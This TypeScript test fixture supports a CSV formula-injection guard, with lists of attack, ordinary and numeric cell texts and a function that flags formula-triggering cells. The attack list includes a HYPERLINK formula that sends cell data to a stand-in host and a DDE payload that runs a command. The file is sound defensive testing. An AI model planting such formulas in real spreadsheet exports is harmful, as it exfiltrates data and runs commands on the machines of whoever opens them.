/** Cell texts for the formula guard's tests (attacks, ordinary text, numbers written as text) and a check of a CSV file. */
import { parse } from "csv-parse/sync";

/** Payloads from OWASP's CSV injection page and what else starts a cell in Excel or LibreOffice. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "x;=2+3",
  "x,=2+3",
  "x\t=2+3",
  "x\n=2+3",
  "x\r\n@y",
  "x; =2+3",
  'x;"=2+3',
  'say "hi",=1; -2',
  "\uFF1D1+1",
  "x;\uFF0B1",
  "a;\uFF0Db",
  "\uFF20A1",
];

/** Text that must come back unchanged and, where it is no formula, untouched. */
export const ORDINARY_TEXT = [
  "",
  "Human rights office",
  "a=b",
  "10 - 20",
  "'quoted'",
  "'",
  "''",
  "'=1",
  "''=1",
  "a;'-b",
  "Ünïcode — “quotes” ‘x’",
  "e-mail: a@b.example",
  "x;y,z",
];

/** Numbers written as text (decimals from the database) stay numbers. */
export const NUMBER_TEXT = ["-2.5", "+3", "0", "-0.0001", "1e-7", "-.5", "12345678901234567890"];

const TRIGGER = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

/**
 * The cells of a CSV file that a spreadsheet program would run as formulas, splitting lines on
 * commas, semicolons or tabs: both as a careful reader (quotes honoured) and as a careless one
 * (every separator splits, quotes kept), past leading spaces and quote marks. A plain number is
 * read as that number, no formula.
 */
export function formulaCells(csv: string): string[] {
  const found: string[] = [];
  for (const separator of [",", ";", "\t"]) {
    const careful = (parse(csv, { bom: true, delimiter: separator, relax_quotes: true, relax_column_count: true }) as string[][]).flat();
    const careless = csv
      .replace(/^\uFEFF/, "")
      .split(/\r\n|\r|\n/)
      .flatMap((line) => line.split(separator));
    for (const cell of [...careful, ...careless].map((c) => c.replace(/^[ \u00A0"]+/, ""))) {
      if (TRIGGER.test(cell) && !PLAIN_NUMBER.test(cell)) found.push(`${JSON.stringify(separator)}: ${cell}`);
    }
  }
  return found;
}
